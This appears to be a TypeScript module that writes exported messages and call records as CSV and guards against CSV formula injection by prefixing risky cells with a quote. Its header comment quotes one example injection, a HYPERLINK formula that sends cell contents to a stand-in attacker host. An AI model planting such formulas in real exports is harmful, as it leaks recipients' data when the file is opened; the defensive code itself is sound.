/**
 * CSV for spreadsheets and scripts (RFC 4180): fields separated by commas, records ended by CRLF,
 * a field quoted when it holds a comma, a double quote, CR or LF, with quotes doubled inside.
 *
 * Spreadsheet programs run a cell that starts with `=`, `+`, `-` or `@` as a formula, so a text
 * message like `=HYPERLINK("https://evil.example/?"&A1, "open")` or a DDE call would act when
 * the file is opened ("CSV injection"). By default such text is written with a leading `'`,
 * which spreadsheets show as plain text (docs/exports.md). Numbers and phone numbers
 * (`+15550001`, `-3`, `+1 (555) 000-1234`) are left as they are: made of digits, spaces and
 * `( ) . , ; + - * # /` only, they can compute arithmetic at most, never call anything.
 * `raw: true` writes every value exactly, for scripts.
 */
import { conversationTitle, personLabel, type CallView, type ConversationView, type MessageView, type PersonView } from '../export-view.js';
import { isoWithOffset } from '../time.js';

/** UTF-8 byte order mark: lets Excel recognise the encoding. */
export const UTF8_BOM = '\uFEFF';

const NEEDS_QUOTES = /[",\r\n]/;

export function csvField(value: string): string {
  return NEEDS_QUOTES.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

export function csvLine(fields: readonly string[]): string {
  return fields.map(csvField).join(',') + '\r\n';
}

export interface CsvValueOptions {
  /** Write values exactly, formula-like text included (for scripts, not spreadsheets). */
  raw?: boolean;
}

/** What a spreadsheet takes for the start of a formula, and the tab and CR it skips before one. */
const FORMULA_START = /^[=+\-@\t\r]/;
/**
 * Numbers, phone numbers and lists of them (`+15550001; +15550002`, `*#06#`): without letters,
 * quotes, `|` or `!` a formula can neither name a function, a cell or a sheet nor start a DDE call.
 */
const NUMBER_LIKE = /^[\d ().,;+\-*#/]*$/;

/** `value`, with a leading `'` when a spreadsheet would run it as a formula. */
export function neutraliseFormula(value: string): string {
  return FORMULA_START.test(value) && !NUMBER_LIKE.test(value) ? `'${value}` : value;
}

function values(fields: string[], options: CsvValueOptions): string {
  return csvLine(options.raw === true ? fields : fields.map(neutraliseFormula));
}

export const MESSAGE_COLUMNS = [
  'conversation_id',
  'conversation',
  'date',
  'date_ms',
  'kind',
  'direction',
  'sender',
  'sender_address',
  'recipients',
  'recipient_addresses',
  'text',
  'attachments',
] as const;

export const CALL_COLUMNS = ['date', 'date_ms', 'type', 'number', 'name', 'duration_s'] as const;

function address(p: PersonView | 'me'): string {
  return p === 'me' ? 'me' : p.address;
}

/** Several values in one field, separated by `; `. */
function list(values: string[]): string {
  return values.join('; ');
}

export function messageCsvLine(m: MessageView, conversation: ConversationView, options: CsvValueOptions = {}): string {
  return values([
    String(m.conversationId),
    conversationTitle(conversation),
    isoWithOffset(m.dateMs),
    String(m.dateMs),
    m.kind,
    m.direction,
    personLabel(m.sender),
    address(m.sender),
    list(m.recipients.map(personLabel)),
    list(m.recipients.map(address)),
    m.text,
    list(m.attachments.map((a) => a.name)),
  ], options);
}

export function callCsvLine(c: CallView, options: CsvValueOptions = {}): string {
  return values([isoWithOffset(c.dateMs), String(c.dateMs), c.type, c.person.address, c.person.name ?? '', c.durationS === null ? '' : String(c.durationS)], options);
}
